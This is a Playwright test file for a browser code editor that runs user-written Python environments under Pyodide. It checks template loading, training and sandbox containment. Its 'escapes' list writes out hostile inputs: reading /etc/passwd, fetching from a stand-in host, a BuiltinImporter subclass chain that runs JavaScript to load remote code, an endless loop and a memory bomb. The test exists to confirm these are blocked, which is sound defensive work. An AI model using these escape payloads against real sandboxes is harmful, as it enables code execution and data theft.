import type { Page } from '@playwright/test';
import { expectAccessible } from './accessible.ts';
import { chooseTemplate, failed, openEditor, ready, train, verdict, write } from './code-editor.ts';
import { expect, test } from './lab-page.ts';

async function openTemplate(page: Page, name: string): Promise<void> {
  await openEditor(page);
  await chooseTemplate(page, name);
  await ready(page);
}

/** A class whose step runs this code in line 7. */
const stepping = (code: string) => `class One:
    actions = ['go']
    max_episode_steps = 3
    def reset(self, seed):
        return 'go', {}
    def step(self, action):
        ${code}
        return 'go', 1, True, False, {}
`;

test('an agent learns the Python template in the page, and Python is loaded only for it', async ({
  lab,
}) => {
  const { page } = lab;
  const loaded: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('/pyodide/')) loaded.push(request.url());
  });
  await page.goto('/?device=processor&stopping.iterations=1');
  await lab.reach(1);
  expect(loaded).toEqual([]);
  await openTemplate(page, 'Frozen lake (Python)');
  await expect(verdict(page)).toContainText('the expert 100%');
  await expect(page.getByTestId('code-trial').getByRole('img')).toBeVisible();
  for (const width of [1440, 390]) {
    await page.setViewportSize({ width, height: 900 });
    await lab.photograph(`code-editor-python-${width}`);
  }
  await page.setViewportSize({ width: 1440, height: 900 });
  await expectAccessible(page, 'code editor with Python', '.code-editor');
  await train(page).click();
  await expect(page.getByTestId('code')).toBeHidden();
  await page.waitForFunction(() => {
    const rates = window.palestra?.snapshot().rows.flatMap((row) => row['eval/success_rate'] ?? []);
    // Random moves solve fewer than a tenth of the tasks.
    return (rates ?? []).some((rate) => rate >= 0.5);
  });
  await expect(lab.stage).toContainText('holes');
  await lab.photograph('code-trained-python');
});

/** Ways out of the sandbox; each is the code of line 7. */
const escapes = [
  'import js',
  "from pyodide.http import open_url; open_url('https://elsewhere.invalid/')",
  "open('/etc/passwd')",
  // Reaches Python's own modules in spite of the restricted imports; they find nothing to call.
  `[c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0].load_module('sys').modules['pyodide.code'].run_js("fetch('https://elsewhere.invalid/')")`,
  `[c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0].load_module('sys').modules['pyodide.code'].run_js("indexedDB.open('left')")`,
  `[c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0].load_module('sys').modules['pyodide.code'].run_js("import('https://elsewhere.invalid/a.js')")`,
  'while True: pass',
  'x = [0] * 10**9',
];

test('Python code does not leave its sandbox, and the page says in which line it tried', async ({
  lab,
}) => {
  const { page } = lab;
  await openTemplate(page, 'Guess the number (Python)');
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  for (const code of escapes) {
    await write(page, stepping(code));
    await expect(verdict(page)).toContainText('Line 7');
    await failed(page);
    await expect(train(page)).toBeDisabled();
  }
  expect(requests.filter((url) => url.includes('elsewhere'))).toEqual([]);
  expect(
    await page.evaluate(async () => (await indexedDB.databases()).map(({ name }) => name)),
  ).not.toContain('left');
});
